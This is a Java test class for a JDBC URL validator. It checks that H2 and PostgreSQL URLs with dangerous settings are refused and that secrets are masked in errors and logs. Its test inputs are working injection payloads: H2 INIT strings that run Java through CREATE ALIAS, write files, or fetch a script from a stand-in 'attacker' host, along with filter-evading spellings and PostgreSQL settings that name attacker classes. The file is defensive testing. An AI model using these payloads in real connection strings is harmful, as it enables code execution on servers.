package dev.pipeline.jdbc;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.SQLException;
import java.sql.SQLTransientConnectionException;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.UUID;
import java.util.concurrent.TimeUnit;
import javax.sql.DataSource;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class JdbcUrlTest {
  private static final String SECRET = "s3cr3t-pw";

  // ------------------------------------------------------------------ H2

  @Test
  void anH2UrlWithAnEscapedInitIsRefusedAndRunsNoCode() {
    String property = "pipeline.pwned." + UUID.randomUUID();
    String url =
        "jdbc:h2:mem:x;IN\\IT=CREATE ALIAS P FOR 'java.lang.System.setProperty'\\;CALL P('"
            + property
            + "','1')";

    assertThatThrownBy(() -> JdbcPipelineStore.builder().jdbcUrl(url, null, null).build().close())
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessageContaining("setting INIT (written 'IN\\u005cIT')")
        .hasMessageContaining("runs SQL, and through CREATE ALIAS Java code")
        .hasMessageContaining("allowUrlSetting(\"INIT\")");
    assertThat(System.getProperty(property)).as("the alias never ran").isNull();
  }

  @Test
  void anH2UrlThatWritesAFileIsRefusedAndWritesNothing(@TempDir Path dir) {
    Path pwned = dir.resolve("pwned.txt");
    String url =
        "jdbc:h2:mem:a;IN\\IT=CALL FILE_WRITE(STRINGTOUTF8('x'),'"
            + pwned.toString().replace("\\", "\\\\")
            + "')";

    assertThatThrownBy(() -> JdbcPipelineStore.builder().jdbcUrl(url, null, null).build().close())
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessageContaining("H2 URL rejected: setting INIT");
    assertThat(pwned).doesNotExist();
  }

  @Test
  void settingsInTheUserOrPasswordArgumentAreNotRead() {
    String property = "pipeline.pwned." + UUID.randomUUID();
    String init =
        ";INIT=CREATE ALIAS P FOR 'java.lang.System.setProperty'\\;CALL P('" + property + "','1')";

    try (JdbcPipelineStore store =
        JdbcPipelineStore.builder()
            .jdbcUrl("jdbc:h2:mem:user_" + UUID.randomUUID(), "sa" + init, "pw" + init)
            .build()) {
      assertThat(store.toString()).contains("h2");
    }
    assertThat(System.getProperty(property)).as("the alias never ran").isNull();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://attacker/evil.sql'",
        "jdbc:h2:mem:x;init=CREATE ALIAS EXEC AS 'void e(String c) throws Exception {}'",
        "jdbc:h2:mem:x;\u0131n\u0131t=SELECT 1",
        "jdbc:h2:mem:x;I\\N\\I\\T=SELECT 1",
        "jdbc:h2:mem:x;DB_CLOSE_DELAY=-1;INIT=CREATE TABLE x(a INT)",
        "jdbc:h2:mem:x;DB_CLOSE_DELAY=-1; INIT =CREATE TABLE x(a INT)",
        "jdbc:h2:mem:x;MODE=Regular\\;INIT=SELECT 1;IGNORE_UNKNOWN_SETTINGS=TRUE",
        "jdbc:h2:file:/tmp/x;runscript from 'x.sql'",
        "jdbc:h2:mem:x;DATABASE_EVENT_LISTENER='com.evil.Listener'",
        "jdbc:h2:mem:x;JAVA_OBJECT_SERIALIZER='com.evil.Serializer'",
        "jdbc:h2:mem:x;AUTHENTICATOR=com.evil.Auth",
        "jdbc:h2:mem:x;DEFAULT_TABLE_ENGINE=com.evil.Engine",
        "jdbc:h2:mem:x;RECOVER_TEST=1",
        "jdbc:h2:mem:x;TRACE_LEVEL_SYSTEM_OUT=3",
        "jdbc:h2:mem:x;TRACE_LEVEL_FILE=3",
        "jdbc:h2:file:/tmp/x;AUTO_SERVER=TRUE",
        "jdbc:h2:tcp://sa:pw@localhost/x"
      })
  void h2UrlsOutsideTheAllowListAreRefused(String url) {
    assertThatThrownBy(() -> JdbcPipelineStore.builder().jdbcUrl(url, "sa", ""))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessageStartingWith("H2 URL rejected");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:h2:mem:x",
        "jdbc:h2:mem:x;DB_CLOSE_DELAY=-1",
        "jdbc:h2:mem:x;db_close_delay=-1;;Mode=PostgreSQL;DATABASE_TO_LOWER=TRUE",
        "jdbc:h2:file:/tmp/data/x;WRITE_DELAY=0;MODE=PostgreSQL;LOCK_TIMEOUT=10000",
        "jdbc:h2:file:C:\\data\\x;WRITE_DELAY=0",
        "jdbc:h2:mem:x;USER=sa;PASSWORD=a\\;b;CIPHER=AES",
        "jdbc:h2:tcp://localhost:9092/~/x;IFEXISTS=TRUE"
      })
  void h2UrlsOnTheAllowListAreAccepted(String url) {
    assertThatCode(() -> JdbcUrl.check(url, Set.of())).doesNotThrowAnyException();
  }

  /**
   * The drivers' own parsers, given a URL the check accepts (and the URL it hands them), find no
   * setting outside the allow-lists: the check reads URLs as they do.
   */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:h2:mem:x;MODE=Regular\\;INIT=SELECT 1",
        "jdbc:h2:mem:x;DB_CLOSE_DELAY=-1\\;INIT\\=x;;MODE=a\\",
        "jdbc:h2:mem:x;PASSWORD=pw\\;INIT=SELECT 1;USER=sa",
        "jdbc:postgresql://h/db?ApplicationName=a%26socketFactory%3Dx&&ssl",
        "jdbc:postgresql://h/db%3FsocketFactory%3Dx?user=u&password=a=b",
        "jdbc:postgresql:db?sslmode=require&sslpassword=%3Bx"
      })
  void theDriversSeeOnlyAllowedSettingsInAnAcceptedUrl(String url) throws Exception {
    JdbcUrl checked = JdbcUrl.check(url, Set.of());
    for (String given : List.of(url, checked.driverUrl())) {
      Set<String> seen;
      if (checked.kind == JdbcUrl.Kind.H2) {
        var info = new org.h2.engine.ConnectionInfo(given, new java.util.Properties(), null, null);
        var prop = org.h2.engine.ConnectionInfo.class.getDeclaredField("prop");
        prop.setAccessible(true);
        seen = ((java.util.Properties) prop.get(info)).stringPropertyNames();
        assertThat(seen).as(given).isSubsetOf(JdbcUrl.H2_SETTINGS).doesNotContain("INIT");
      } else {
        seen = org.postgresql.Driver.parseURL(given, null).stringPropertyNames();
        assertThat(seen)
            .as(given)
            .doesNotContain("socketFactory")
            .allMatch(
                s -> JdbcUrl.POSTGRESQL_SETTINGS.contains(s) || s.startsWith("PG"), "allowed");
      }
    }
  }

  @Test
  void anH2SettingCanBeLetThroughInCodeButOnlyBeforeTheUrl() {
    String url = "jdbc:h2:file:/tmp/x;AUTO_SERVER=TRUE";
    assertThatThrownBy(() -> JdbcUrl.check(url, Set.of()))
        .hasMessageContaining("AUTO_SERVER opens a TCP server that other hosts can reach");
    assertThatCode(() -> JdbcUrl.check(url, Set.of("auto_server"))).doesNotThrowAnyException();
    assertThatCode(
            () ->
                JdbcPipelineStore.builder().allowUrlSetting("AUTO_SERVER").jdbcUrl(url, null, null))
        .doesNotThrowAnyException();

    JdbcPipelineStoreBuilder set = JdbcPipelineStore.builder().jdbcUrl("jdbc:h2:mem:x", null, null);
    assertThatThrownBy(() -> set.allowUrlSetting("AUTO_SERVER"))
        .isInstanceOf(IllegalStateException.class)
        .hasMessageContaining("must come before jdbcUrl(...)");
    JdbcPipelineStoreBuilder twice = JdbcPipelineStore.builder().allowUrlSetting("INIT");
    assertThatThrownBy(() -> twice.allowUrlSetting("INIT"))
        .isInstanceOf(IllegalStateException.class)
        .hasMessageContaining("already called");
    assertThatThrownBy(() -> twice.allowUrlSetting("A=B;INIT"))
        .isInstanceOf(IllegalArgumentException.class);
    assertThatThrownBy(() -> twice.allowUrlSetting(null))
        .isInstanceOf(NullPointerException.class)
        .hasMessage("name cannot be null");
  }

  @Test
  void h2FileUrlsGoThroughTheSameCheck() {
    assertThat(JdbcUrl.check(Connections.h2FileUrl(Path.of("/data/x")), Set.of()).driverUrl())
        .isEqualTo("jdbc:h2:file:/data/x;WRITE_DELAY=0");
  }

  // ------------------------------------------------------------------ PostgreSQL

  @ParameterizedTest
  @ValueSource(
      strings = {
        "socketFactory=dev.pipeline.jdbc.RecordingSocketFactory",
        "socketFactoryArg=x",
        "sslfactory=org.postgresql.ssl.NonValidatingFactory",
        "sslfactoryarg=x",
        "sslhostnameverifier=com.evil.Verifier",
        "sslpasswordcallback=com.evil.Callback",
        "authenticationPluginClassName=com.evil.Plugin",
        "connectExecutor=com.evil.Executor",
        "xmlFactoryFactory=com.evil.Xml",
        "classLoaderStrategy=context-first",
        "loggerFile=/tmp/pg.log",
        "loggerLevel=TRACE",
        "service=mine",
        "options=-c%20search_path%3Devil",
        "socket%46actory=dev.pipeline.jdbc.RecordingSocketFactory",
        "SOCKETFACTORY=dev.pipeline.jdbc.RecordingSocketFactory",
        "PGHOST=elsewhere"
      })
  void postgresqlSettingsOutsideTheAllowListAreRefused(String setting) {
    String url = "jdbc:postgresql://127.0.0.1:5432/test?user=postgres&" + setting;
    String name = setting.substring(0, setting.indexOf('='));
    assertThatThrownBy(() -> JdbcPipelineStore.builder().jdbcUrl(url, null, null))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessageStartingWith("PostgreSQL URL rejected: setting " + name)
        .hasMessageContaining("allowUrlSetting(\"" + name + "\")");
  }

  @Test
  void aPostgresqlSettingNamedInAnotherCaseIsRefusedWithTheSpellingTheDriverReads() {
    assertThatThrownBy(() -> JdbcUrl.check("jdbc:postgresql://h/db?SSLMODE=require", Set.of()))
        .hasMessageContaining("did you mean sslmode?");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:postgresql://127.0.0.1:5432/test?user=postgres",
        "jdbc:postgresql://127.0.0.1:5432/test?user=postgres&ApplicationName=INIT",
        "jdbc:postgresql://h1:5432,h2:5433/db?targetServerType=primary&sslmode=verify-full"
            + "&sslrootcert=/etc/ca.pem&connectTimeout=5&currentSchema=etl",
        "jdbc:postgresql:db",
        "jdbc:postgresql://[::1]:5432/db?ssl&password=a%26b"
      })
  void postgresqlUrlsOnTheAllowListAreAccepted(String url) {
    assertThatCode(() -> JdbcUrl.check(url, Set.of())).doesNotThrowAnyException();
  }

  @Test
  void aSocketFactoryNamedInAPostgresqlUrlIsRefusedAndNeverInstantiated() {
    TestDatabase db = TestDatabase.postgres("urls_refused");
    String url = with(db.url, "socketFactory=" + RecordingSocketFactory.class.getName());
    int before = RecordingSocketFactory.INSTANCES.get();
    try {
      assertThatThrownBy(
              () ->
                  JdbcPipelineStore.builder()
                      .jdbcUrl(url, null, null)
                      .schema(db.schema)
                      .build()
                      .close())
          .isInstanceOf(IllegalArgumentException.class)
          .hasMessageContaining("setting socketFactory names a class the driver instantiates");
    } finally {
      db.drop();
    }
    assertThat(RecordingSocketFactory.INSTANCES.get()).isEqualTo(before);
  }

  @Test
  void aSocketFactoryLetThroughInCodeIsUsed() {
    TestDatabase db = TestDatabase.postgres("urls_opt_in");
    String url = with(db.url, "socketFactory=" + RecordingSocketFactory.class.getName());
    int before = RecordingSocketFactory.INSTANCES.get();
    try (JdbcPipelineStore store =
        JdbcPipelineStore.builder()
            .allowUrlSetting("socketFactory")
            .jdbcUrl(url, null, null)
            .schema(db.schema)
            .build()) {
      assertThat(store.toString()).contains("postgresql");
    } finally {
      db.drop();
    }
    assertThat(RecordingSocketFactory.INSTANCES.get()).isGreaterThan(before);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:mysql://alice:" + SECRET + "@db/x?password=" + SECRET,
        "JDBC:H2:mem:x;PASSWORD=" + SECRET,
        "jdbc:sqlite:/tmp/x",
        "h2:mem:x",
        ""
      })
  void otherUrlsAreRefusedWithoutEchoingThem(String url) {
    assertThatThrownBy(() -> JdbcPipelineStore.builder().jdbcUrl(url, null, null))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessageStartingWith("JDBC URL rejected")
        .hasMessageContaining("dataSource(...)")
        .hasMessageNotContaining(SECRET);
  }

  // ------------------------------------------------------------------ secrets

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:h2:mem:x;PASSWORD=" + SECRET + ";INIT=SELECT 1",
        "jdbc:h2:mem:x;password=" + SECRET + "\\;more;INIT=SELECT 1",
        "jdbc:h2:mem:x;PASSWORD=" + SECRET + ";nosetting",
        "jdbc:h2:tcp://sa:" + SECRET + "@localhost/x",
        "jdbc:postgresql://127.0.0.1:5432/test?password=" + SECRET + "&socketFactory=x",
        "jdbc:postgresql://127.0.0.1:5432/test?sslpassword=" + SECRET + "&options=x",
        "jdbc:postgresql://127.0.0.1:5432/test?PASSWORD=" + SECRET,
        "jdbc:postgresql://127.0.0.1:5432/test?password=" + SECRET + "&x=%zz",
        "jdbc:postgresql://alice:" + SECRET + "@127.0.0.1:5432/test"
      })
  void aRefusedUrlIsShownWithItsSecretsMasked(String url) {
    assertThatThrownBy(() -> JdbcPipelineStore.builder().jdbcUrl(url, null, null))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessageContaining("***")
        .hasMessageNotContaining(SECRET)
        .hasMessageNotContaining("more");
  }

  @Test
  void secretsLeaveTheUrlForTheDriverAndAreMaskedInItsText() {
    JdbcUrl h2 =
        JdbcUrl.check("jdbc:h2:mem:x;USER=sa;PASSWORD=" + SECRET + "\\;x;MODE=H2", Set.of());
    assertThat(h2.driverUrl()).isEqualTo("jdbc:h2:mem:x;USER=sa;MODE=H2");
    assertThat(h2.secretProperties()).containsEntry("PASSWORD", SECRET + ";x");
    assertThat(h2).hasToString("jdbc:h2:mem:x;USER=sa;PASSWORD=***;MODE=H2");

    JdbcUrl pg =
        JdbcUrl.check(
            "jdbc:postgresql://h/db?password=a%26"
                + SECRET
                + "&user=u&sslpassword="
                + SECRET
                + "2&sslmode=require",
            Set.of());
    assertThat(pg.driverUrl()).isEqualTo("jdbc:postgresql://h/db?user=u&sslmode=require");
    assertThat(pg.secretProperties())
        .containsEntry("password", "a&" + SECRET)
        .containsEntry("sslpassword", SECRET + "2");
    assertThat(pg)
        .hasToString("jdbc:postgresql://h/db?password=***&user=u&sslpassword=***&sslmode=require");

    assertThatThrownBy(
            () ->
                JdbcPipelineStore.builder()
                    .jdbcUrl("jdbc:postgresql://h/db?password=" + SECRET, "u", "other"))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessageContaining("the password is given twice")
        .hasMessageNotContaining(SECRET);
  }

  @Test
  void aDriverErrorEchoingTheUrlIsMaskedKeepingItsKind() {
    String raw = "jdbc:postgresql://h/db?password=" + SECRET + "&user=u";
    JdbcUrl url = JdbcUrl.check(raw, Set.of());
    SQLException driver =
        new SQLTransientConnectionException(
            "cannot reach " + raw,
            "08001",
            7,
            new IOException("handshake failed for " + SECRET, new IllegalStateException("deep")));

    SQLException shown = url.scrub(driver);

    assertThat((Throwable) shown)
        .isInstanceOf(SQLTransientConnectionException.class)
        .hasMessage("cannot reach jdbc:postgresql://h/db?password=***&user=u");
    assertThat(shown.getSQLState()).isEqualTo("08001");
    assertThat(shown.getErrorCode()).isEqualTo(7);
    assertThat(shown.getCause())
        .hasMessage("java.io.IOException: handshake failed for ***")
        .hasRootCauseMessage("java.lang.IllegalStateException: deep");
    assertThat(stackTrace(shown)).doesNotContain(SECRET);
    SQLException clean = new SQLException("connection refused", "08001");
    assertThat((Throwable) url.scrub(clean)).isSameAs(clean);
  }

  @Test
  void theDriverGetsNoPasswordInItsUrlAndAFailureShowsNone() {
    // H2 echoes its URL when it refuses a path relative to the working directory
    JdbcUrl url = JdbcUrl.check("jdbc:h2:relative/x;PASSWORD=" + SECRET, Set.of());
    assertThatThrownBy(
            () -> {
              try (var c =
                  new org.h2.Driver().connect(url.driverUrl(), new java.util.Properties())) {
                c.isValid(1);
              }
            })
        .isInstanceOf(SQLException.class)
        .hasMessageContaining("jdbc:h2:relative/x")
        .hasMessageNotContaining(SECRET);
  }

  @Test
  void aDataSourceWhoseDriverEchoesASecretFailsTheBuildWithTheSecretMasked() {
    DataSource echoing =
        new DatabaseFaultTest.FlakyDataSource("echo") {
          @Override
          public Connection getConnection() throws SQLException {
            throw new SQLException(
                "cannot open jdbc:mysql://app:" + SECRET + "@db/orders?password=" + SECRET,
                "08001");
          }
        };

    assertThatThrownBy(() -> JdbcPipelineStore.builder().dataSource(echoing).build())
        .isInstanceOf(JdbcStoreException.class)
        .hasMessageContaining("jdbc:mysql://app:***@db/orders?password=***")
        .hasMessageNotContaining(SECRET);
  }

  /**
   * Builds stores in a child JVM logging at DEBUG, HikariCP included, on H2 with PASSWORD= in the
   * URL (which HikariCP's mask misses) and on PostgreSQL with password= and sslpassword=: no line
   * carries a secret.
   */
  @Test
  void noLogLineAtDebugCarriesASecret(@TempDir Path dir) throws Exception {
    List<String> urls = new ArrayList<>();
    urls.add("jdbc:h2:mem:secrets;USER=sa;PASSWORD=" + SECRET);
    TestDatabase pg = TestDatabase.postgres("urls_log");
    urls.add(with(pg.url, "password=" + SECRET + "&sslpassword=" + SECRET + "2"));
    try {
      String output = runChild(dir, pg.schema, urls);
      assertThat(output)
          .as(output)
          .contains("configuration:", "dataSource", "built JdbcPipelineStore[h2");
      assertThat(output).as(output).contains("built JdbcPipelineStore[postgresql");
      assertThat(output).as(output).doesNotContain(SECRET);
    } finally {
      pg.drop();
    }
  }

  private static String runChild(Path dir, String schema, List<String> urls) throws Exception {
    Path log = Files.createTempFile(dir, "child", ".log");
    List<String> command = new ArrayList<>();
    command.add(Path.of(System.getProperty("java.home"), "bin", "java").toString());
    command.add("-Xmx128m");
    command.add("-Dorg.slf4j.simpleLogger.defaultLogLevel=debug");
    command.add("-Dorg.slf4j.simpleLogger.log.com.zaxxer.hikari=debug");
    command.add("-cp");
    command.add(System.getProperty("java.class.path"));
    command.add(UrlSecretsMain.class.getName());
    command.add(schema);
    command.addAll(urls);
    Process process =
        new ProcessBuilder(command).redirectErrorStream(true).redirectOutput(log.toFile()).start();
    if (!process.waitFor(60, TimeUnit.SECONDS)) {
      process.destroyForcibly();
      throw new AssertionError("the child JVM did not end: " + Files.readString(log));
    }
    String output = Files.readString(log, StandardCharsets.UTF_8);
    assertThat(process.exitValue()).as(output).isZero();
    return output;
  }

  /** The URL with more settings. */
  private static String with(String url, String settings) {
    return url + (url.contains("?") ? "&" : "?") + settings;
  }

  private static String stackTrace(Throwable t) {
    var out = new java.io.StringWriter();
    t.printStackTrace(new java.io.PrintWriter(out));
    return out.toString();
  }
}
